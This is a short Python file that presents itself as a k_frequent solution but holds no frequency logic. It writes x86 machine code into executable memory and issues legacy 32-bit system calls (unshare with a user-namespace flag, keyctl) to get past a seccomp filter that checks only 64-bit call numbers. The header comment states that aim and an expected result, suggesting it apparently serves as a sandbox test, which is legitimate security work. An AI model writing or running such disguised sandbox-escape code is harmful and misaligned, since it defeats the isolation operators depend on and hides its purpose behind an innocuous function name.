# expect: answered [], signal 11
# Asks by the old door: a filter that knows only 64-bit calls would take unshare for another call.
import ctypes
import mmap
import platform
import struct


def k_frequent(nums, k):
    if platform.machine() != "x86_64":
        return []
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    found = []
    for name, number, argument in ("getpid", 20, 0), ("unshare", 310, 0x10000000), ("keyctl", 288, 0):
        code.seek(0)
        code.write(b"\x53\xb8" + struct.pack("=I", number) + b"\xbb" + struct.pack("=I", argument) + b"\xcd\x80\x5b\xc3")
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
        if call() >= 0:
            found.append(name)
    return found
